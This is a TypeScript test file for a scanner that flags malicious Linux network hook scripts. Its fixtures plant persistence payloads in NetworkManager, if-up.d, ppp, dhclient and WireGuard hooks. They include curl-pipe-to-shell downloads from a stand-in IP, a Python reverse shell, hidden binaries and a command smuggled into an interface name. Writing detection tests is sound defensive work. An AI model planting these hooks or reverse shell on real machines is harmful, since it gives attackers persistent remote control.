import { tellsOf } from '../../../test/plant-rows.ts';
import { networkHooks } from './check.ts';

const evil = '#!/bin/sh\ncurl -s http://203.0.113.8/p.sh | bash\n';

tellsOf(networkHooks, {
  rows: {
    'a script of NetworkManager': { files: { '/etc/NetworkManager/dispatcher.d/99-x': { text: evil, mode: 0o755 } }, finds: ['intrusion high /etc/NetworkManager/dispatcher.d/99-x'] },
    'one of if-up.d': { files: { '/etc/network/if-up.d/zz': { text: evil, mode: 0o755 } }, finds: ['intrusion high /etc/network/if-up.d/zz'] },
    'one of dhclient': { files: { '/etc/dhcp/dhclient-exit-hooks.d/zz': { text: evil, mode: 0o644 } }, finds: ['intrusion high /etc/dhcp/dhclient-exit-hooks.d/zz'] },
    'one of networkd-dispatcher': { files: { '/etc/networkd-dispatcher/routable.d/50-x': { text: evil, mode: 0o755 } }, finds: ['intrusion high /etc/networkd-dispatcher/routable.d/50-x'] },
    'one of ppp': { files: { '/etc/ppp/ip-up.d/0x': { text: evil, mode: 0o755 } }, finds: ['intrusion high /etc/ppp/ip-up.d/0x'] },
    'a program among scripts': { files: { '/etc/network/if-up.d/sync': { text: Buffer.from('\x7fELF\x02\x01\x01 a program', 'latin1'), mode: 0o755 } }, finds: ['intrusion high /etc/network/if-up.d/sync'] },
    'a script that fetches from a name': { files: { '/etc/ppp/ip-down.d/zz': { text: '#!/bin/sh\ncurl -fsS https://files.pkg.example/w | sh\n', mode: 0o755 } }, finds: ['intrusion medium /etc/ppp/ip-down.d/zz'] },
    'a shell of Python over a connection made in one call': { files: { '/etc/ppp/ip-up.d/9x': { text: '#!/usr/bin/python3\nimport socket,os,pty\ns=socket.create_connection(("203.0.113.8",443))\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")\n', mode: 0o755 } }, finds: ['intrusion critical /etc/ppp/ip-up.d/9x'] },
    'a line of /etc/network/interfaces': { files: { '/etc/network/interfaces': 'auto eth0\niface eth0 inet dhcp\n  post-up nohup /var/tmp/.n/n >/dev/null 2>&1 &\n' }, finds: ['intrusion high /etc/network/interfaces'] },
    'a hook of a tunnel': { files: { '/etc/wireguard/wg0.conf': '[Interface]\nPostUp = /dev/shm/w\n' }, finds: ['intrusion high /etc/wireguard/wg0.conf'] },
    'a command behind a name of an interface': { files: { '/etc/sysconfig/network-scripts/ifcfg-eth0': 'DEVICE=eth0\nNAME=Network /tmp/x\nONBOOT=yes\n' }, finds: ['intrusion high /etc/sysconfig/network-scripts/ifcfg-eth0'] },
  },
  ordinary: {
    '/etc/network/if-up.d/mtu': { text: '#!/bin/sh\n[ "$IFACE" = eth0 ] || exit 0\nip link set dev eth0 mtu 1450\n', mode: 0o755 },
    '/etc/network/if-up.d/packaged': { text: evil, mode: 0o755, package: 'ifupdown' },
    '/etc/network/interfaces': 'auto lo\niface lo inet loopback\nauto eth1\niface eth1 inet static\n  address 192.0.2.10/24\n  up ip route add 198.51.100.0/24 via 192.0.2.1 || true\n',
    '/etc/wireguard/wg0.conf': '[Interface]\nPostUp = iptables -A FORWARD -i %i -j ACCEPT; iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE\n',
    '/etc/sysconfig/network-scripts/ifcfg-eth0': 'DEVICE=eth0\nNAME="System eth0"\nBOOTPROTO=dhcp\n',
  },
  reads: '/etc/network/interfaces',
});
